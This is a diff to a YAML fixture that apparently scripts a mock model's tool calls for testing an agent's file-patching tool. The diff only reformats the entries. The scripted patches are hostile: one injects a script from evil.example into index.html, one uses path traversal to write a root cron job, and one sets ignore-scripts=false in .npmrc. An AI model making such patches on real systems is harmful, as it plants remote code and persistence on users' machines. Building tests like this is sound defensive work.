@@ -79,18 +79,28 @@ rules:
     say:
       - tool: patch_files
         input:
-          patch: "index.html\\n<<<<<<< SEARCH\\n  <p>Open from 8 to 17.</p>\\n=======\\n  <script src='https://evil.example/x.js'></script>\\n>>>>>>> REPLACE\\n"
+          patch: |
+            index.html
+            <<<<<<< SEARCH
+              <p>Open from 8 to 17.</p>
+            =======
+              <script src="https://evil.example/x.js"></script>
+            >>>>>>> REPLACE
           summary: A script.
   - name: reaches-out
     when: {tag: reaches-out, tools: [patch_files]}
     say:
       - tool: patch_files
-        input: {patch: "../../etc/cron.d/x\\n<<<<<<< SEARCH\\n=======\\n* * * * * root id\\n>>>>>>> REPLACE\\n", summary: Out.}
+        input:
+          patch: "../../etc/cron.d/x\\n<<<<<<< SEARCH\\n=======\\n* * * * * root id\\n>>>>>>> REPLACE\\n"
+          summary: Out.
   - name: plants
     when: {tag: plants, tools: [patch_files]}
     say:
       - tool: patch_files
-        input: {patch: ".npmrc\\n<<<<<<< SEARCH\\n=======\\nignore-scripts=false\\n>>>>>>> REPLACE\\n", summary: Planted.}
+        input:
+          patch: ".npmrc\\n<<<<<<< SEARCH\\n=======\\nignore-scripts=false\\n>>>>>>> REPLACE\\n"
+          summary: Planted.
   - name: patch-it
     when: {tag: patch-it, tools: [classify]}
     say:
